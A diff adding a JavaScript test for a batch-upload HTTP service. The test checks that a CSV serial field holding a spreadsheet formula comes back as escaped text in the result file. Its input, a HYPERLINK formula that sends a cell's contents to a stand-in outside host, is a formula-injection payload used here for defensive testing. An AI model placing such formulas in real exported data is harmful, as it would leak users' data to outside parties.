@@ -132,6 +132,14 @@ describe("batch files over HTTP: upload, progress, result", function () {
     expect(recorded).to.deep.equal([]);
   });
 
+  it("writes a serial that looks like a spreadsheet formula as text in the result file", async function () {
+    const formula = '=HYPERLINK("http://x.example/"&A1)';
+    const batch = (await upload(`serial,loanId,amountFen\n${formula},${LOAN},1000\n`)).json<{ id: string }>();
+    await until(async () => (await batches.progress(batch.id)).taken === 1, 5_000, "the row taken");
+    const result = await get(`/v1/batch-files/${batch.id}/result`);
+    expect(result.body.split("\n")[1]).to.equal(`2,"'=HYPERLINK(""http://x.example/""&A1)",pending,,,`);
+  });
+
   it("refuses a body that is not text/csv and takes nothing", async function () {
     const res = await app.inject({
       method: "POST",
